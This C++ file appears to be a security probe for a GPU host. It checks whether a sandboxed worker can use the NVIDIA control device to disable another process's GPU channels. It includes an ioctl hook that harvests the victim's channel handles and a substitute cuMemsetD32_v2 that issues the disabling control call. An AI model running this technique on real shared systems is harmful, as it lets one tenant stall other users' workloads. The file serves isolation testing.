// Tests whether a jailed worker's descriptors suffice to disable the channels of another process
// (NV2080_CTRL_CMD_FIFO_DISABLE_CHANNELS). docs/threat-model.md has the result. host/scheduler/rm_api.h has the numbers
// and structures.
//
// This file has three parts:
//   probe_switch_off victim FILE   launches and waits, prints how often and how slowly in each 100 ms, and writes its
//                                  handles to FILE
//   probe_switch_off trigger       a guest program that makes one fill, at which the worker's driver disables channels
//   libswitch_off.so               (-DAS_DRIVER) the worker's driver: NVIDIA's, except for that fill. It is linked with
//                                  NVIDIA's library, which provides all other names, and compiled with the victim's
//                                  handles: -DCLIENT=... -DCHANNELS=...
#include <cuda.h>
#include <dlfcn.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdarg>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <mutex>
#include <string>
#include <vector>

#include "host/scheduler/rm_api.h"

namespace {

using namespace host::rm;

[[maybe_unused]] int ask(int fd, unsigned escape, void* what, std::size_t bytes) {
  return static_cast<int>(syscall(SYS_ioctl, fd, _IOC(_IOC_READ | _IOC_WRITE, escape_magic, escape, bytes), what));
}

}  // namespace

#ifdef AS_DRIVER

namespace {

std::uint32_t make(int fd, std::uint32_t client, std::uint32_t parent, std::uint32_t object, std::uint32_t klass,
                   void* params, std::uint32_t size) {
  Alloc a{client, parent, object, klass, reinterpret_cast<std::uint64_t>(params), 0, size, 0, 0};
  const int rc = ask(fd, escape_alloc, &a, sizeof a);
  std::fprintf(stderr, "switch_off: object of class %#x: rc %d, status %#x\n", klass, rc, a.status);
  return rc == 0 && a.status == 0 ? a.object : 0;
}

int control_device() {
  for (int fd = 0; fd < 1024; ++fd) {
    char name[64] = {}, link[32];
    std::snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    if (readlink(link, name, sizeof name - 1) > 0 && std::strcmp(name, "/dev/nvidiactl") == 0) return fd;
  }
  return -1;
}

void do_the_deed() {
  const int fd = control_device();
  std::fprintf(stderr, "switch_off: /dev/nvidiactl is descriptor %d\n", fd);
  std::uint32_t subdevice_id = 0;
  DeviceParameters device{};
  const std::uint32_t client = make(fd, 0, 0, 0, root_class, nullptr, 0);
  if (client == 0 || make(fd, client, client, 0xcafe0080, device_class, &device, sizeof device) == 0 ||
      make(fd, client, 0xcafe0080, 0xcafe2080, subdevice_class, &subdevice_id, sizeof subdevice_id) == 0)
    return;
  const std::uint32_t channels[] = {CHANNELS};
  for (const bool off : {true, false}) {
    DisableChannels d{};
    d.disable = off;
    for (const std::uint32_t channel : channels) d.client[d.count] = CLIENT, d.channel[d.count++] = channel;
    Control c{client, 0xcafe2080, disable_channels, 0, reinterpret_cast<std::uint64_t>(&d), sizeof d, 0};
    const int rc = ask(fd, escape_control, &c, sizeof c);
    std::fprintf(stderr, "switch_off: channels %s: rc %d, status %#x\n", off ? "off" : "on", rc, c.status);
    if (off) usleep(1000000);
  }
}

}  // namespace

extern "C" __attribute__((visibility("default"))) CUresult cuMemsetD32_v2(CUdeviceptr, unsigned, std::size_t) {
  do_the_deed();
  return CUDA_SUCCESS;
}

#else

namespace {

struct Channel {
  std::uint32_t client, handle;
};
std::mutex mutex;
std::vector<Channel> channels;

}  // namespace

// The driver's library finds this ioctl before the C library's (linked with -rdynamic), so the victim learns its
// channels.
extern "C" __attribute__((visibility("default"))) int ioctl(int fd, unsigned long request, ...) noexcept {
  va_list list;
  va_start(list, request);
  void* const argument = va_arg(list, void*);
  va_end(list);
  const long rc = syscall(SYS_ioctl, fd, request, argument);
  if (rc == 0 && _IOC_TYPE(request) == escape_magic && _IOC_NR(request) == escape_alloc &&
      _IOC_SIZE(request) == sizeof(Alloc)) {
    const Alloc& a = *static_cast<const Alloc*>(argument);
    std::lock_guard lock(mutex);
    if (a.status == 0 && is_channel_class(a.object_class)) channels.push_back({a.client, a.object});
  }
  return static_cast<int>(rc);
}

namespace {

const char ptx[] = ".version 7.0\n.target sm_70\n.address_size 64\n.visible .entry nothing() { ret; }\n";

#define MUST(call)                                                      \
  if (const CUresult r_ = (call); r_ != CUDA_SUCCESS) {                 \
    std::printf("line %d: error %d\n", __LINE__, static_cast<int>(r_)); \
    return 1;                                                           \
  } else                                                                \
    static_cast<void>(0)
#define NAMED(name) #name
#define CU(fn) reinterpret_cast<decltype(&::fn)>(dlsym(library, NAMED(fn)))

int victim(void* library, const char* file) {
  CUmodule module = nullptr;
  CUfunction nothing = nullptr;
  MUST(CU(cuModuleLoadData)(&module, ptx));
  MUST(CU(cuModuleGetFunction)(&nothing, module, "nothing"));
  if (FILE* out = std::fopen(file, "w"); out != nullptr) {
    std::lock_guard lock(mutex);
    std::fprintf(out, "-DCLIENT=%#x -DCHANNELS=", channels.empty() ? 0 : channels[0].client);
    for (std::size_t i = 0; i < channels.size() && i < 64; ++i)
      if (channels[i].client == channels[0].client) std::fprintf(out, "%s%#x", i ? "," : "", channels[i].handle);
    std::fclose(out);
  }
  using Clock = std::chrono::steady_clock;
  for (int tenth = 0; tenth < 200; ++tenth) {
    const auto begin = Clock::now();
    Clock::duration longest{};
    int done = 0;
    for (auto now = begin; now < begin + std::chrono::milliseconds(100); ++done) {
      MUST(CU(cuLaunchKernel)(nothing, 1, 1, 1, 1, 1, 1, 0, nullptr, nullptr, nullptr));
      MUST(CU(cuCtxSynchronize)());
      const auto then = Clock::now();
      longest = std::max(longest, then - now);
      now = then;
    }
    std::printf("%d launches and waits, the longest %lld us\n", done,
                static_cast<long long>(std::chrono::duration_cast<std::chrono::microseconds>(longest).count()));
    std::fflush(stdout);
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  void* const library = dlopen("libcuda.so.1", RTLD_NOW);
  const std::string part = argc > 1 ? argv[1] : "";
  if (library == nullptr || (part != "trigger" && argc < 3)) return 2;
  CUcontext context = nullptr;
  MUST(CU(cuInit)(0));
  MUST(CU(cuDevicePrimaryCtxRetain)(&context, 0));
  MUST(CU(cuCtxSetCurrent)(context));
  if (part == "victim") return victim(library, argv[2]);
  CUdeviceptr at = 0;
  MUST(CU(cuMemAlloc_v2)(&at, 4096));
  MUST(CU(cuMemsetD32_v2)(at, 1, 16));
  return 0;
}

#endif
